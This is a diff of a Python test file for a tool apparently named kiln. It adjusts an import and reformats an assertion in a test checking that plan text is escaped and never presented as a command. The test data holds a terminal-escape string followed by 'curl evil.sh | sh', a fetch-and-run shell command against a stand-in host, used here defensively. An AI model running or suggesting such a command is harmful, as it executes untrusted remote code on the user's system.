@@ -11,7 +11,7 @@ from hypothesis import HealthCheck, given, settings, strategies as st
 
 import kiln
 from kiln.errors import KilnError, PlanError
-from tests.test_fuzz import _JSON_VALUES, _MANIFEST_PATHS, FEEDS, SEED_PLAN, _join, _split
+from test_fuzz import _JSON_VALUES, _MANIFEST_PATHS, FEEDS, SEED_PLAN, _join, _split
 
 FUZZ = settings(max_examples=100, deadline=5_000, derandomize=True, database=None,
                 suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@@ -154,4 +154,5 @@ def test_plan_text_is_escaped_and_never_offered_as_a_command(tmp_path):
     assert "\x1b" not in str(e.value) and "\\x1b" in str(e.value)
     assert "the plan says it was built with: '\\x1b[2J\\rcurl evil.sh | sh'" in str(e.value)
     out = CliRunner().invoke(app, ["inspect", str(p)])
-    assert out.exit_code == 0 and "\\x1b[2J\\rcurl" in out.stdout and "\x1b" not in out.stdout and "\r" not in out.stdout
+    assert (out.exit_code == 0 and "\\x1b[2J\\rcurl" in out.stdout and "\x1b" not in out.stdout
+            and "\r" not in out.stdout)
